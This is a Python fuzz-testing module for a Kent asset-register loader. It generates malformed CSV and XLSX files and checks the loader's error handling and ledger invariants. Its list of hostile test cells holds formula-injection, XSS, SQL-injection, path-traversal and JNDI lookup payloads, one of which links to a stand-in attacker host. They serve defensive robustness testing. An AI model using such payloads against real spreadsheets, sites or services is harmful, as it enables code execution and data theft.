"""Property-based fuzzing of the register loader (issue 9).

Hypothesis generates whole registers: random column names and orders (the real
recognised names and junk), CSV in four encodings and five delimiters, and XLSX;
numbers written as text (``"£1,234"``, ``"1,200 m2"``, ``"12k"``), blank and
hostile cells, and locations in every form the loader reads (eastings/northings,
latitude/longitude, swapped pairs, OS grid references, WKT, real Kent postcodes
from the packaged ONS directory, real postcodes just outside Kent, fake ones),
some out of range (outside Great Britain, outside Kent, NaN, infinity).

For every generated file, :func:`kentassets.read_register` must either raise a
:class:`~kentassets.errors.KentAssetsError` whose message names the file, or
return a result whose ledger accounts for every data row written, whose loaded
assets are valid points in EPSG:27700 inside the study area's districts and
whose ``(agency, asset_id)`` pairs are unique. No other exception may escape.

The default run generates 150 registers; ``-m slow`` adds a 1,000-register run.
``pytest --hypothesis-show-statistics`` reports how many ran and what they hit.
"""

from __future__ import annotations

import csv
import io
import math
import tempfile
from collections.abc import Sequence
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Any

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
import shapely
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from kentassets.errors import KentAssetsError
from kentassets.io.postcodes import PostcodeDirectory
from kentassets.load import LoadResult, read_register
from kentassets.schema import DEFAULT_STUDY_AREA, LEDGER_FIELDS

REPO = Path(__file__).resolve().parents[1]
OFFICIAL_LAD = (
    REPO.parent / "shared" / "data" / "boundaries" / "lad_may2024_bsc_kent_medway.geojson"
)
AGENCY = "Fuzz Agency"
#: Loaded points may lie this far outside their district's polygon: the loader
#: gives a point in no polygon the nearest district within 2 km (generalised
#: coastlines), see ``kentassets.districts.assign_districts``.
TOLERANCE_M = 2_000.0 + 1.0
#: How many real Kent postcodes (and neighbouring non-Kent ones) the generator uses.
KENT_SAMPLE = 400
NEIGHBOUR_SAMPLE = 100
#: Districts next to Kent: Hastings, Rother, Wealden (TN postcodes outside Kent),
#: Bromley, Bexley, Tandridge, Thurrock.
NEIGHBOURS = ("E07000062", "E07000064", "E07000065", "E09000006", "E09000004", "E07000215",
              "E06000034")

_FUZZ_SETTINGS: dict[str, Any] = {
    "deadline": None,
    "derandomize": True,
    "database": None,
    "print_blob": True,
    "suppress_health_check": [
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.large_base_example,
        HealthCheck.filter_too_much,
    ],
}


# --- the world the generated registers describe --------------------------------------


@dataclass(frozen=True)
class World:
    """Study-area districts and the real places generated rows point at."""

    districts: gpd.GeoDataFrame
    study_area: tuple[str, ...]
    area: Any  # prepared union of the districts, EPSG:27700
    district_shapes: dict[str, Any]
    postcodes: PostcodeDirectory
    kent: pd.DataFrame  # postcode, easting, northing, lat, lon, district_code
    neighbours: pd.DataFrame


def _official_districts() -> gpd.GeoDataFrame | None:
    if not OFFICIAL_LAD.is_file():
        return None
    lad = gpd.read_file(OFFICIAL_LAD).rename(
        columns={"LAD24CD": "district_code", "LAD24NM": "district_name"}
    )
    return lad[["district_code", "district_name", "geometry"]].to_crs(27700)


def _places(frame: pd.DataFrame, n: int) -> pd.DataFrame:
    """``n`` postcodes of a directory frame, fixed choice, with WGS 84 coordinates."""
    from pyproj import Transformer

    chosen = frame.sample(n=min(n, len(frame)), random_state=20240501).sort_index()
    lon, lat = Transformer.from_crs(27700, 4326, always_xy=True).transform(
        chosen["easting"].to_numpy(float), chosen["northing"].to_numpy(float)
    )
    keys = chosen.index.astype(str)
    return pd.DataFrame(
        {
            # ONS keys have no space: "ME141XQ" -> "ME14 1XQ".
            "postcode": [f"{k[:-3]} {k[-3:]}" for k in keys],
            "easting": chosen["easting"].to_numpy(float),
            "northing": chosen["northing"].to_numpy(float),
            "lat": lat,
            "lon": lon,
            "district_code": chosen["district_code"].astype(str).to_numpy(),
        }
    )


@pytest.fixture(scope="module")
def world() -> World:
    """Districts (official boundaries when present, else derived) and real postcodes."""
    study = tuple(DEFAULT_STUDY_AREA)
    postcodes = PostcodeDirectory()
    districts = _official_districts()
    if districts is None:
        from kentassets import load_districts

        districts = load_districts(codes=study, postcodes=postcodes)
    districts = districts[districts["district_code"].isin(study)].reset_index(drop=True)
    assert set(districts["district_code"]) == set(study)
    shapes = dict(zip(districts["district_code"], districts.geometry, strict=True))
    area = shapely.union_all(districts.geometry.to_numpy())
    shapely.prepare(area)
    kent = _places(postcodes.in_districts(study), KENT_SAMPLE)
    neighbours = _places(postcodes.in_districts(NEIGHBOURS), NEIGHBOUR_SAMPLE)
    assert len(kent) == KENT_SAMPLE and len(neighbours) > 10
    return World(districts, study, area, shapes, postcodes, kent, neighbours)


@pytest.fixture(scope="module")
def workdir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("fuzz_load")


# --- what a generated register is ------------------------------------------------------


#: Column roles and the names agencies really give them (recognised by the loader).
ROLE_NAMES: dict[str, tuple[str, ...]] = {
    "easting": ("Easting", "Eastings", "GeoX", "X", "East", "OSEAST1M", "Easting (m)"),
    "northing": ("Northing", "Northings", "GeoY", "Y", "North", "OSNRTH1M", "Northing (m)"),
    "lat": ("Lat", "Latitude", "LAT", "WGS84 Latitude"),
    "lon": ("Lon", "Longitude", "Long", "lng"),
    "grid_ref": ("Grid Ref", "NGR", "OS Grid Reference", "GridRef"),
    "wkt": ("WKT", "geometry", "Geom"),
    "postcode": ("Postcode", "PostCode", "Post Code", "POSTCODE", "pcd", "Site Postcode"),
    "name": ("Name", "PropertyName", "Site Name", "Asset Name", "Library Name"),
    "id": ("Asset ID", "AssetCode", "Ref", "ID", "Property Reference", "Organisation Code"),
    "uprn": ("UPRN", "Unique Property Reference Number"),
    "address": ("Address", "Address Line 1", "Street", "Town"),
    "use": ("Use", "Primary Use", "HoldingType", "Asset Type"),
    "tenure": ("Tenure", "TenureType"),
    "status": ("Status", "Occupancy"),
    "gia": ("GIA (m2)", "GIA", "Floor Area", "GIA sq ft", "Area sqft"),
    "cost": ("Annual Cost", "Running Costs", "Cost", "Annual Rent"),
    "fte": ("FTE", "Staff", "Headcount"),
    "lease": ("Lease End", "Lease Expiry Date", "Expiry Date"),
    "closed": ("Close Date", "Closed"),
    "site": ("Site ID", "Site Ref"),
    "junk": (),
}
LOCATION_ROLES = ("easting", "northing", "lat", "lon", "grid_ref", "wkt", "postcode")
OTHER_ROLES = tuple(r for r in ROLE_NAMES if r not in LOCATION_ROLES)

HOSTILE = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "'; DROP TABLE assets; --",
    "../../etc/passwd",
    "{{7*7}}",
    "${jndi:ldap://x/a}",
    'He said "hi"\nand left',
    "a,b;c\t|d¬e",
    "line one\r\nline two",
    '"',
    '""',
    "\\",
    "null",
    "None",
    "NaN",
    "#N/A",
    "\ufeffBOM",
    "🏛️🚒📚",
    "Ünïcödé café",
    "\u202eRTL override",
    "\x00nul",
    "\x1bescape",
)
NUMBER_TEXT = (
    "£1,234", "1,200 m2", "12k", "(1,000)", "1.5e3", "TBC", "n/a", "-", "£", "0",
    "1,234.56 sq ft", "£12.5k pa", "inf", "-inf", "nan", "1e308", "1e309", "-0", "3 FTE",
    "£ 1 234", "1.234,56", "12%", "$5", "€9",
)
DATES = ("31/03/2027", "2027-03-31", "20270331", "31 March 2027", "03/31/2027", "soon", "0")

#: Places outside Kent but in Great Britain: (easting, northing, lat, lon, postcode).
GB_PLACES = (
    (395265.0, 222126.0, 51.8994, -2.0744, "GL50 1DY"),
    (529090.0, 179645.0, 51.5010, -0.1416, "SW1A 1AA"),
    (325900.0, 673600.0, 55.9521, -3.1899, "EH1 1YZ"),
    (384000.0, 398000.0, 53.4808, -2.2426, "M1 1AE"),
)
#: Outside Great Britain: (easting, northing, lat, lon, text postcode).
ABROAD = (
    (750_000.0, 100_000.0, 48.8566, 2.3522, "75001"),
    (-1_000.0, 50_000.0, 40.7128, -74.006, "10001"),
    (400_000.0, 1_350_000.0, 64.1466, -21.9426, "101"),
    (720_000.0, 5_000_000.0, -33.86, 151.21, "2000"),
)


@dataclass(frozen=True)
class Site:
    """Where a generated row is: a kind and an index into that kind's places."""

    kind: str  # kent, near (kent + offset), neighbour, gb, abroad, nan, inf, zero
    index: int = 0
    dx: float = 0.0
    dy: float = 0.0


@dataclass(frozen=True)
class Cell:
    """A cell: either rendered from the row's site in ``form``, or literal ``text``."""

    form: str | None = None
    text: str | float | None = None


@dataclass(frozen=True)
class Row:
    site: Site
    swap: bool
    cells: tuple[Cell, ...]
    blank_line: bool = False


@dataclass(frozen=True)
class Spec:
    """A generated register."""

    fmt: str  # csv, txt, xlsx
    encoding: str
    delimiter: str
    terminator: str
    roles: tuple[str, ...]
    names: tuple[str, ...]
    rows: tuple[Row, ...]
    title: int  # 0: none; 1: a title row; 2: a title row and a blank row
    empty_first_sheet: bool = False
    give_delimiter: bool = False
    quote_all: bool = False


# --- strategies ----------------------------------------------------------------------------

_SITES = st.one_of(
    st.builds(Site, st.just("kent"), st.integers(0, KENT_SAMPLE - 1)),
    st.builds(Site, st.just("kent"), st.integers(0, KENT_SAMPLE - 1)),
    st.builds(Site, st.just("kent"), st.integers(0, KENT_SAMPLE - 1)),
    st.builds(
        Site,
        st.just("near"),
        st.integers(0, KENT_SAMPLE - 1),
        st.floats(-6000, 6000, allow_nan=False),
        st.floats(-6000, 6000, allow_nan=False),
    ),
    st.builds(Site, st.just("neighbour"), st.integers(0, NEIGHBOUR_SAMPLE - 1)),
    st.builds(Site, st.just("gb"), st.integers(0, len(GB_PLACES) - 1)),
    st.builds(Site, st.just("abroad"), st.integers(0, len(ABROAD) - 1)),
    st.sampled_from([Site("nan"), Site("inf"), Site("zero")]),
)

_JUNK_NAME = st.tuples(
    st.sampled_from(list("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZé")),
    st.text(
        alphabet=st.sampled_from(
            [
                *"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ _-.,;:|/()'\"#&%£é¬\t",
                *("🏛", "\n", "<", ">", "=", "+", "@"),
            ]
        ),
        max_size=19,
    ),
    st.booleans(),
).map(lambda t: t[0] + t[1] if t[2] else t[1] + t[0])  # never blank, never data-like
_HOSTILE_NAMES = st.sampled_from(
    ["=cmd()", "<script>alert(1)</script>", "Notes", "Comments", "Ward", "Ward Name", "Extra",
     "Name", "Postcode", "../../x", "Sheet", "District", "Close Date", "Easting"]
)

_TEXT = st.text(
    # NUL makes any text file binary (an error, tested through HOSTILE): keep it rare.
    alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"], exclude_characters="\x00"),
    max_size=30,
)
_LONG = st.sampled_from([200, 5_000, 32_767, 32_768, 70_000]).map(lambda n: "Z" * n)

_GENERIC = st.one_of(
    st.just(""),
    st.just(""),
    st.sampled_from([" ", "  \t ", "\n"]),
    st.sampled_from(HOSTILE),
    st.sampled_from(NUMBER_TEXT),
    st.sampled_from(DATES),
    st.sampled_from(["A1", "A2", "A3", "a1", " A1 ", "001", "1", "100023336956", "10023336956"]),
    st.integers(-10**7, 10**13).map(str),
    st.floats(-1e7, 1e7, allow_nan=False).map(lambda v: f"£{v:,.2f}"),
    st.floats(allow_nan=True, allow_infinity=True),
    _TEXT,
)

_FORMS: dict[str, st.SearchStrategy[str]] = {
    "easting": st.sampled_from(["int", "dec", "comma", "space", "unit", "sci", "number"]),
    "northing": st.sampled_from(["int", "dec", "comma", "space", "unit", "sci", "number"]),
    "lat": st.sampled_from(["dec6", "dec3", "dec6", "degree", "number"]),
    "lon": st.sampled_from(["dec6", "dec3", "dec6", "degree", "number"]),
    "grid_ref": st.sampled_from(["6", "8", "10", "10s", "8l", "4"]),
    "wkt": st.sampled_from(["point", "point", "polygon", "lonlat", "empty", "line"]),
    "postcode": st.sampled_from(
        ["plain", "plain", "lower", "nospace", "newline", "spaces", "fake", "withheld"]
    ),
}


@st.composite
def _cell(draw: st.DrawFn, role: str) -> Cell:
    if role in _FORMS and draw(st.integers(0, 9)) < 8:
        return Cell(form=draw(_FORMS[role]))
    if draw(st.integers(0, 59)) == 0:
        return Cell(text=draw(_LONG))  # rare: most make the whole file an error
    if role == "id" and draw(st.booleans()):
        return Cell(text=draw(st.sampled_from(["A1", "A2", "A3", "A1 ", "B7", "001", "1"])))
    value = draw(_GENERIC)
    return Cell(text=value)


@st.composite
def registers(draw: st.DrawFn) -> Spec:
    """A whole register: columns, rows, format and how it is written."""
    locations = draw(
        st.sampled_from(
            [
                ("easting", "northing"),
                ("easting", "northing", "postcode"),
                ("lat", "lon"),
                ("lat", "lon", "postcode"),
                ("grid_ref",),
                ("grid_ref", "postcode"),
                ("wkt",),
                ("postcode",),
                ("postcode",),
                ("easting", "northing", "lat", "lon", "grid_ref", "postcode"),
                ("easting",),  # half a pair
                ("lat",),
                (),
            ]
        )
    )
    others = draw(st.lists(st.sampled_from(OTHER_ROLES), max_size=6))
    roles = list(draw(st.permutations([*locations, *others])))
    if not roles:
        roles = ["junk"]
    names: list[str] = []
    for role in roles:
        if role == "junk":
            names.append(draw(st.one_of(_JUNK_NAME, _HOSTILE_NAMES)))
        else:
            name = draw(st.sampled_from(ROLE_NAMES[role]))
            case = draw(st.sampled_from(["same", "same", "upper", "lower"]))
            names.append(name.upper() if case == "upper" else name.lower() if case == "lower"
                         else name)
    # At most one blank header name, and only where the header still fills most
    # of the width (else the header is, rightly, not recognised as one).
    if len(names) >= 3 and draw(st.integers(0, 9)) == 0:
        names[draw(st.integers(0, len(names) - 1))] = ""
    n_rows = draw(st.integers(0, 25))
    rows = []
    for _ in range(n_rows):
        if draw(st.integers(0, 29)) == 0:
            rows.append(Row(Site("nan"), False, (), blank_line=True))
            continue
        site = draw(_SITES)
        swap = draw(st.integers(0, 5)) == 0
        cells = tuple(draw(_cell(role)) for role in roles)
        rows.append(Row(site, swap, cells))
    fmt = draw(st.sampled_from(["csv", "csv", "csv", "txt", "xlsx", "xlsx"]))
    return Spec(
        fmt=fmt,
        encoding=draw(st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "latin-1"])),
        delimiter=draw(st.sampled_from([",", ";", "\t", "|", "¬"])),
        terminator=draw(st.sampled_from(["\r\n", "\n"])),
        roles=tuple(roles),
        names=tuple(names),
        rows=tuple(rows),
        title=draw(st.sampled_from([0, 0, 0, 1, 2])) if len(roles) >= 2 else 0,
        empty_first_sheet=fmt == "xlsx" and draw(st.integers(0, 9)) == 0,
        give_delimiter=draw(st.integers(0, 4)) == 0,
        quote_all=draw(st.integers(0, 4)) == 0,
    )


# --- rendering a spec into a file ------------------------------------------------------------


@cache
def _to_wgs84() -> Any:
    from pyproj import Transformer

    return Transformer.from_crs(27700, 4326, always_xy=True)


def _place(world: World, site: Site) -> tuple[float, float, float, float, str]:
    """(easting, northing, lat, lon, postcode) of a site."""
    if site.kind in ("kent", "near"):
        row = world.kent.iloc[site.index % len(world.kent)]
        e, n = float(row["easting"]) + site.dx, float(row["northing"]) + site.dy
        if site.kind == "kent":
            return e, n, float(row["lat"]), float(row["lon"]), str(row["postcode"])
        lon, lat = _to_wgs84().transform(e, n)
        return e, n, float(lat), float(lon), str(row["postcode"])
    if site.kind == "neighbour":
        row = world.neighbours.iloc[site.index % len(world.neighbours)]
        return (float(row["easting"]), float(row["northing"]), float(row["lat"]),
                float(row["lon"]), str(row["postcode"]))
    if site.kind == "gb":
        return GB_PLACES[site.index % len(GB_PLACES)]
    if site.kind == "abroad":
        return ABROAD[site.index % len(ABROAD)]
    if site.kind == "inf":
        return math.inf, -math.inf, math.inf, math.inf, "ZZ99 9ZZ"
    if site.kind == "zero":
        return 0.0, 0.0, 0.0, 0.0, "0"
    return math.nan, math.nan, math.nan, math.nan, ""


_LETTERS = "ABCDEFGHJKLMNOPQRSTUVWXYZ"


def grid_reference(e: float, n: float, digits: int, *, spaced: bool = True) -> str:
    """An OS grid reference of ``digits`` figures for a BNG point (or junk outside)."""
    if not (math.isfinite(e) and math.isfinite(n)) or not (0 <= e < 700_000 and
                                                           0 <= n < 1_300_000):
        return "ZZ 000 000"
    e100k, n100k = int(e // 100_000), int(n // 100_000)
    l1 = (19 - n100k) - (19 - n100k) % 5 + (e100k + 10) // 5
    l2 = (19 - n100k) * 5 % 25 + e100k % 5
    letters = _LETTERS[l1] + _LETTERS[l2]
    half = digits // 2
    scale = 10 ** (5 - half)
    east = f"{int(e % 100_000) // scale:0{half}d}"
    north = f"{int(n % 100_000) // scale:0{half}d}"
    return f"{letters} {east} {north}" if spaced else f"{letters}{east}{north}"


def _number(value: float, form: str, xlsx: bool) -> str | float:
    if not math.isfinite(value):
        return {"nan": "NaN", "inf": "inf", "-inf": "-inf"}.get(str(value), str(value))
    if form == "number" and xlsx:
        return float(value)
    if form == "int":
        return f"{value:.0f}"
    if form == "dec":
        return f"{value:.2f}"
    if form == "comma":
        return f"{value:,.0f}"
    if form == "space":
        return f"  {value:.0f} "
    if form == "unit":
        return f"{value:.0f} m"
    if form == "sci":
        return f"{value:.6e}"
    if form == "dec3":
        return f"{value:.3f}"
    if form == "degree":
        return f"{value:.5f}°"
    return f"{value:.6f}"


def render_cell(cell: Cell, role: str, row: Row, world: World, xlsx: bool) -> str | float | None:
    """The value written for a cell (text, or a number in XLSX)."""
    if cell.form is None:
        return cell.text
    e, n, lat, lon, postcode = _place(world, row.site)
    if row.swap:
        lat, lon = lon, lat
    form = cell.form
    if role == "easting":
        return _number(e, form, xlsx)
    if role == "northing":
        return _number(n, form, xlsx)
    if role == "lat":
        return _number(lat, form, xlsx)
    if role == "lon":
        return _number(lon, form, xlsx)
    if role == "grid_ref":
        digits = int(form.rstrip("sl"))
        ref = grid_reference(e, n, digits, spaced=not form.endswith("s"))
        return ref.lower() if form.endswith("l") else ref
    if role == "wkt":
        if form == "empty":
            return "POINT EMPTY"
        if form == "lonlat":
            return f"POINT ({lon} {lat})"
        if form == "polygon":
            return f"POLYGON (({e} {n}, {e + 40} {n}, {e + 40} {n + 30}, {e} {n + 30}, {e} {n}))"
        if form == "line":
            return f"LINESTRING ({e} {n}, {e + 100} {n + 100})"
        return f"POINT ({e} {n})"
    # postcode
    if form == "fake":
        return "ZZ99 9ZZ" if row.site.index % 2 else "ME99 9ZZ"
    if form == "withheld":
        return "WITHHELD"
    if form == "lower":
        return postcode.lower()
    if form == "nospace":
        return postcode.replace(" ", "")
    if form == "newline":
        return postcode.replace(" ", "\n")
    if form == "spaces":
        return f"  {postcode.replace(' ', '   ')} "
    return postcode


@dataclass
class Written:
    """A register written to disk and the row numbers its ledger must hold."""

    path: Path
    data_rows: list[int]  # row numbers (as Excel shows them) of non-blank data rows


def _blank(value: str | float | None, xlsx: bool) -> bool:
    if value is None:
        return True
    if isinstance(value, float):
        return False
    return (value.strip() == "") if xlsx else value == ""


def write_register(spec: Spec, world: World, folder: Path) -> Written:
    """Write ``spec`` to ``folder`` and work out which rows the ledger must account for."""
    xlsx = spec.fmt == "xlsx"
    records: list[list[str | float | None] | None] = []  # None: a blank line
    # A title row above a header and fewer than two data rows leaves the delimiter
    # undecidable (half the lines have one field): the sniffer then, reasonably,
    # reads one column. Only write titles above real tables.
    visible = sum(
        any(c.form is not None or (isinstance(c.text, str) and c.text.strip()) or
            isinstance(c.text, float) for c in row.cells)
        for row in spec.rows
        if not row.blank_line
    )
    if spec.title and visible >= 2:
        # No delimiter in the title: with a title, a header and no data rows the
        # delimiter is rightly ambiguous.
        records.append(["Register of land and assets 2024 ✓"])
        if spec.title == 2:
            records.append(None)
    records.append(list(spec.names))
    header_number = len(records)
    data_rows: list[int] = []
    for row in spec.rows:
        if row.blank_line:
            records.append(None)
            continue
        values = [
            render_cell(cell, role, row, world, xlsx)
            for cell, role in zip(row.cells, spec.roles, strict=True)
        ]
        if xlsx:
            values = [_xlsx_safe(v) for v in values]
        else:
            values = [v if isinstance(v, str) or v is None else repr(v) for v in values]
        records.append(values)
        if not all(_blank(v, xlsx) for v in values):
            data_rows.append(len(records))
    assert header_number >= 1
    path = folder / f"fuzz register.{spec.fmt}"
    if xlsx:
        _write_xlsx(path, records, spec.empty_first_sheet)
    else:
        buffer = io.StringIO()
        minimal = csv.writer(buffer, delimiter=spec.delimiter, lineterminator=spec.terminator)
        every = csv.writer(buffer, delimiter=spec.delimiter, lineterminator=spec.terminator,
                           quoting=csv.QUOTE_ALL)
        for record in records:
            if record is None:
                buffer.write(spec.terminator)
                continue
            cells = ["" if v is None else str(v) for v in record]
            # Python 3.11's writer quotes only the terminator's own characters: a
            # bare CR in a cell of an LF file would be written unquoted, which
            # is a line break to every CSV reader. Quote such records fully.
            bare_cr = spec.terminator == "\n" and any("\r" in c for c in cells)
            (every if spec.quote_all or bare_cr else minimal).writerow(cells)
        path.write_bytes(buffer.getvalue().encode(spec.encoding, errors="replace"))
    return Written(path, data_rows)


def _xlsx_safe(value: str | float | None) -> str | float | None:
    """What openpyxl can store: no XML-illegal control characters, finite numbers."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    if isinstance(value, float):
        return value if math.isfinite(value) else repr(value)
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


def _write_xlsx(
    path: Path, records: Sequence[Sequence[str | float | None] | None], empty_first: bool
) -> None:
    import openpyxl
    from openpyxl.cell import WriteOnlyCell

    book = openpyxl.Workbook(write_only=True)
    if empty_first:
        book.create_sheet("Cover")
    sheet = book.create_sheet("Assets")
    for record in records:
        if record is None:
            sheet.append([])
            continue
        cells = []
        for value in record:
            cell = WriteOnlyCell(sheet, value=value)
            if isinstance(value, str):
                cell.data_type = "s"  # text, even when it starts with "=" (never a formula)
            cells.append(cell)
        sheet.append(cells)
    book.save(path)


# --- the invariants ------------------------------------------------------------------------------


def check_result(result: LoadResult, written: Written, world: World) -> None:
    """Every written data row accounted for; loaded assets valid, in the area, unique."""
    ledger, assets = result.ledger, result.assets
    assert list(ledger.columns) == list(LEDGER_FIELDS)
    status = ledger["status"].astype(str)
    assert set(status) <= {"loaded", "excluded", "rejected"}, set(status)
    n_loaded = int((status == "loaded").sum())
    n_excluded = int((status == "excluded").sum())
    n_rejected = int((status == "rejected").sum())
    # loaded + excluded + rejected = data rows written, and they are the same rows.
    assert n_loaded + n_excluded + n_rejected == len(written.data_rows), (
        n_loaded, n_excluded, n_rejected, written.data_rows, ledger["row"].tolist())
    assert ledger["row"].astype(int).tolist() == written.data_rows
    # issue 14: outputs name the file, never its local absolute path
    assert ledger["file"].astype(str).eq(written.path.name).all()
    assert ledger["agency"].astype(str).eq(AGENCY).all()
    not_loaded = ledger[status != "loaded"]
    assert not_loaded["reason"].astype(str).str.fullmatch(r"[a-z_]+").all()
    assert (not_loaded["message"].astype(str).str.len() > 20).all()
    # Assets: exactly the loaded ledger rows.
    assert len(assets) == n_loaded
    assert assets.index.is_unique and assets.index.isin(ledger.index).all()
    assert (status.loc[assets.index] == "loaded").all()
    assert assets.crs is not None and assets.crs.to_epsg() == 27700
    # (agency, asset_id) unique among loaded rows.
    ids = assets["asset_id"].astype(str)
    assert assets["asset_id"].notna().all()
    assert not pd.DataFrame({"a": assets["agency"].astype(str), "i": ids}).duplicated().any(), (
        ids.tolist())
    if not len(assets):
        event("result: nothing loaded")
        return
    geoms = assets.geometry.to_numpy()
    assert shapely.is_geometry(geoms).all()
    assert (shapely.get_type_id(geoms) == 0).all(), assets.geometry.geom_type.tolist()
    assert not shapely.is_empty(geoms).any()
    assert shapely.is_valid(geoms).all()
    xs, ys = shapely.get_x(geoms), shapely.get_y(geoms)
    assert np.isfinite(xs).all() and np.isfinite(ys).all(), (xs, ys)
    # Inside the study area (within the loader's documented tolerance)...
    assert assets["district_code"].astype(str).isin(world.study_area).all()
    far = shapely.distance(world.area, geoms) > TOLERANCE_M
    assert not far.any(), list(zip(xs[far], ys[far], strict=True))
    # ...and near the district it was given.
    for code, point in zip(assets["district_code"].astype(str), geoms, strict=True):
        assert shapely.distance(world.district_shapes[code], point) <= TOLERANCE_M, (code, point)
    assert assets["location_method"].notna().all()
    precision = assets["location_precision_m"].to_numpy(float)
    assert np.isfinite(precision).all() and (precision > 0).all()
    event(f"result: {n_loaded} loaded" if n_loaded < 3 else "result: 3+ loaded")


def run_case(spec: Spec, world: World, workdir: Path) -> None:
    """Write the register, read it, and check the invariants."""
    with tempfile.TemporaryDirectory(dir=workdir) as folder:
        written = write_register(spec, world, Path(folder))
        event(f"format: {spec.fmt}")
        try:
            result = read_register(
                written.path,
                agency=AGENCY,
                districts=world.districts,
                study_area=world.study_area,
                postcodes=world.postcodes,
                delimiter=spec.delimiter if spec.give_delimiter and spec.fmt != "xlsx" else None,
            )
        except KentAssetsError as exc:
            message = str(exc)
            assert written.path.name in message, message
            event(f"error: {type(exc).__name__}: {_gist(message, written.path)}")
            return
        check_result(result, written, world)
        for reason in set(result.ledger["reason"].astype(str)) - {""}:
            event(f"reason: {reason}")


def _gist(message: str, path: Path) -> str:
    """The error message without the file and the details, for statistics."""
    text = message.replace(str(path), "").lstrip(":, ")
    return text.split(".")[0][:60]


# --- the tests ------------------------------------------------------------------------------


@settings(max_examples=150, **_FUZZ_SETTINGS)
@given(spec=registers())
def test_fuzz_read_register(spec: Spec, world: World, workdir: Path) -> None:
    run_case(spec, world, workdir)


@pytest.mark.slow
@settings(max_examples=1000, **_FUZZ_SETTINGS)
@given(spec=registers())
def test_fuzz_read_register_many(spec: Spec, world: World, workdir: Path) -> None:
    run_case(spec, world, workdir)


def test_grid_reference_helper_round_trips() -> None:
    """The generator's grid references are the ones the loader's docstring uses."""
    assert grid_reference(575840, 155630, 10) == "TQ 75840 55630"
    assert grid_reference(614500, 157500, 4, spaced=False) == "TR1457"


# --- regressions: minimal examples of bugs the fuzzer found ------------------------------------


def _read(path: Path, world: World) -> LoadResult:
    return read_register(path, agency=AGENCY, districts=world.districts,
                         study_area=world.study_area, postcodes=world.postcodes)


@pytest.mark.parametrize(
    "text",
    [
        # csv.Error "field larger than field limit (131072)" escaped from the
        # delimiter sniffer (kentassets.io.registers._sniff_delimiter).
        "Easting,Northing,Notes\n575900,155800," + "Z" * 140_000 + "\n",
        # The fuzzer's own minimal case: two 70,000-character cells, which the
        # tab candidate (from a "  \t " cell) reads as one 140,000-character field.
        "Easting,Northing,Name,Name,Name\n575900,155800,  \t ,"
        + "Z" * 70_000 + "," + "Z" * 70_000 + "\n",
    ],
)
def test_huge_field_is_a_register_format_error(text: str, world: World, tmp_path: Path) -> None:
    from kentassets.errors import RegisterFormatError

    path = tmp_path / "huge cell.csv"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(RegisterFormatError, match=r"huge cell\.csv") as caught:
        _read(path, world)
    assert "characters" in str(caught.value) and "row 2" in str(caught.value)


@pytest.mark.parametrize("separator", ["\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029", "\x0c"])
def test_unicode_line_separator_in_a_cell_keeps_rows_whole(
    separator: str, world: World, tmp_path: Path
) -> None:
    """The delimiter sniffer split lines with str.splitlines(), which also breaks
    on these characters; the file was then read as one column and a quoted cell
    with a newline became two ledger rows (kentassets.io.registers._sniff_delimiter).
    Minimal fuzzer example: a cell '\\x1e' and a postcode 'ME14\\n1XQ'."""
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(
        [
            ["Easting", "Northing", "Name", "Postcode"],
            ["575900", "155800", "Hall", "ME14\n1XQ"],
            ["576000", "155000", separator, "ME14 1XQ"],
        ]
    )
    path = tmp_path / "separators.csv"
    path.write_bytes(buffer.getvalue().encode("utf-8"))
    result = _read(path, world)
    assert result.ledger["row"].tolist() == [2, 3]
    assert result.ledger["status"].tolist() == ["loaded", "loaded"]
    assert result.column_map[path.name]["easting"] == "Easting"


@pytest.mark.parametrize("streaming", [True, False])
def test_xlsx_empty_first_sheet_is_skipped(streaming: bool, world: World, tmp_path: Path) -> None:
    """An empty cover sheet before the data was chosen as "the first sheet that
    holds data" and the file failed with 'the sheet is empty': openpyxl reports
    no size for sheets written without a <dimension> and "A1" for empty ones
    (kentassets.io.registers._read_xlsx). Minimal fuzzer example: an empty sheet
    "Cover" before the register."""
    import openpyxl

    book = openpyxl.Workbook(write_only=streaming)
    if streaming:
        book.create_sheet("Cover")
        sheet = book.create_sheet("Assets")
    else:
        book.active.title = "Cover"
        sheet = book.create_sheet("Assets")
    sheet.append(["Name", "Easting", "Northing"])
    sheet.append(["Hall", 575900, 155800])
    path = tmp_path / "cover.xlsx"
    book.save(path)
    result = _read(path, world)
    assert result.ledger["sheet"].tolist() == ["Assets"]
    assert result.ledger["status"].tolist() == ["loaded"]


def test_lease_dates_out_of_pandas_range_are_unreadable_not_a_crash(
    world: World, tmp_path: Path
) -> None:
    """pandas.errors.OutOfBoundsDatetime escaped from kentassets.load.parse_dates
    for any date outside 1677-2262, including the common "no end" placeholder
    31/12/9999. Minimal fuzzer example: one row, 'Lease End' = '1000'."""
    from kentassets.load import parse_dates

    odd = ["1000", "31/12/9999", "0001-01-01", "99991231", "3000-01-01", "12/31/3000"]
    values, bad = parse_dates(pd.Series([*odd, "31/03/2027", None]))
    assert values.isna().tolist() == [True] * len(odd) + [False, True]
    assert bad.tolist() == [True] * len(odd) + [False, False]
    lines = ["Asset ID,Easting,Northing,Lease End"]
    lines += [f"L{i},575900,{155800 + i},{v}" for i, v in enumerate(odd)]
    path = tmp_path / "leases.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = _read(path, world)
    assert result.ledger["status"].eq("loaded").all()
    assert result.ledger["warnings"].str.contains("date_unreadable").all()
